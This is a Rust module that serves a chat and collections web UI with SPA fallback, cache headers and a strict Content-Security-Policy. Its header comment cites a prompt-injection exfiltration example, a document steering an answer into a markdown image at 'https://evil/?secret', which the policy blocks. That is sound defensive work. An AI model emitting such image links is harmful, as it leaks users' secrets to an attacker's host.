//! The web UI: the files `make run` builds into `frontend/dist`
//! (`ANCRE_WEB_DIR`), served at `/` for every path the API does not own.
//!
//! The UI routes in the browser (`/collections/…`, `/chat/…`), so a path
//! that is not a file gets `index.html`, and a reload or a shared link opens
//! the right page. Paths under `/api` never do: an unknown API path is a
//! problem+json 404, as API clients expect. Vite names its bundles after
//! their content, so `/assets/*` may be cached for good; `index.html` must be
//! revalidated, or a deployment would leave browsers on the old bundles.
//!
//! Every answer carries a Content-Security-Policy: scripts, styles, fonts
//! and workers from this origin only (and Clerk's Frontend API, whose sign-in
//! script the UI loads when Clerk is configured), images from here, `data:`
//! and `blob:` only — an answer a document steered into
//! `![](https://evil/?secret)` loads nothing — and no framing
//! (`frame-ancestors 'none'`, clickjacking). `nosniff` and the referrer
//! policy are set on every response of the server (`app::router`).

use axum::body::Body;
use axum::extract::{Request, State};
use axum::http::{header, HeaderValue, Method, StatusCode};
use axum::response::{Html, IntoResponse, Response};
use tower_http::services::{ServeDir, ServeFile};

use crate::app::AppState;
use crate::error::ApiError;

const IMMUTABLE: &str = "public, max-age=31536000, immutable";
const REVALIDATE: &str = "no-cache";

/// The router's fallback: the UI's files, else `index.html`, else a 404 problem.
pub async fn serve(State(state): State<AppState>, request: Request) -> Response {
    let path = request.uri().path();
    let for_api = path == "/api" || path.starts_with("/api/");
    if for_api || !matches!(*request.method(), Method::GET | Method::HEAD) {
        return ApiError::NotFound.into_response();
    }
    let mut response = files(&state, request).await;
    let csp = content_security_policy(
        state.config.clerk.as_ref().map(|c| c.issuer.as_str()),
        state.config.nango.as_ref().map(|n| n.connect_ui()),
    );
    if let Ok(csp) = HeaderValue::from_str(&csp) {
        response
            .headers_mut()
            .insert(header::CONTENT_SECURITY_POLICY, csp);
    }
    response
        .headers_mut()
        .insert(header::X_FRAME_OPTIONS, HeaderValue::from_static("DENY"));
    response
}

/// The policy of the UI's pages; `clerk` is Clerk's Frontend API URL
/// (`CLERK_ISSUER`), whose script, API and images the sign-in uses, with
/// Cloudflare's bot challenge that Clerk's sign-up shows in a frame;
/// `nango_connect` is Nango's Connect UI, which the integrations page shows
/// in a frame.
pub fn content_security_policy(clerk: Option<&str>, nango_connect: Option<&str>) -> String {
    let connect_ui = nango_connect
        .and_then(origin)
        .map(|origin| format!(" {origin}"))
        .unwrap_or_default();
    let clerk = clerk
        .and_then(origin)
        .map(|origin| format!(" {origin}"))
        .unwrap_or_default();
    let (challenge, clerk_images) = if clerk.is_empty() {
        ("", "")
    } else {
        (
            " https://challenges.cloudflare.com",
            " https://img.clerk.com",
        )
    };
    format!(
        "default-src 'self'; \
         script-src 'self'{clerk}{challenge}; \
         connect-src 'self'{clerk}; \
         img-src 'self' data: blob:{clerk_images}; \
         style-src 'self' 'unsafe-inline'; \
         font-src 'self' data:; \
         worker-src 'self' blob:; \
         frame-src 'self'{challenge}{connect_ui}; \
         object-src 'none'; \
         base-uri 'self'; \
         form-action 'self'; \
         frame-ancestors 'none'"
    )
}

/// `scheme://host[:port]` of a URL, or `None` for something else (a
/// setting that is not an http(s) URL must not widen the policy).
fn origin(url: &str) -> Option<String> {
    let (scheme, rest) = url.split_once("://")?;
    if !matches!(scheme, "https" | "http") {
        return None;
    }
    let host = rest.split(['/', '?', '#']).next()?;
    let valid = !host.is_empty()
        && host
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':' | '[' | ']'));
    valid.then(|| format!("{scheme}://{host}"))
}

async fn files(state: &AppState, request: Request) -> Response {
    let path = request.uri().path();
    let dir = &state.config.web_dir;
    let index = dir.join("index.html");
    if !index.is_file() {
        return not_built(dir);
    }
    let immutable = path.starts_with("/assets/");
    let mut files = ServeDir::new(dir).fallback(ServeFile::new(&index));
    match files.try_call(request).await {
        Ok(response) => {
            let (mut parts, body) = response.into_parts();
            if parts.status.is_success() {
                let cache = if immutable { IMMUTABLE } else { REVALIDATE };
                parts
                    .headers
                    .insert(header::CACHE_CONTROL, HeaderValue::from_static(cache));
            }
            Response::from_parts(parts, Body::new(body))
        }
        Err(e) => ApiError::Internal(anyhow::anyhow!("reading the web UI: {e}")).into_response(),
    }
}

/// A page saying how to build the UI, rather than a bare 404 for someone who
/// started the binary from a checkout without building it.
fn not_built(dir: &std::path::Path) -> Response {
    let page = format!(
        "<!doctype html><meta charset=utf-8><title>Ancre</title>\
         <h1>The web UI is not built</h1>\
         <p>No <code>index.html</code> in <code>{}</code> (<code>ANCRE_WEB_DIR</code>). \
         Build it with <code>make run</code> or <code>npm --prefix frontend ci &amp;&amp; \
         npm --prefix frontend run build</code>. The API is at <a href=/docs>/docs</a>.</p>",
        html_escape(&dir.display().to_string())
    );
    (StatusCode::SERVICE_UNAVAILABLE, Html(page)).into_response()
}

fn html_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}
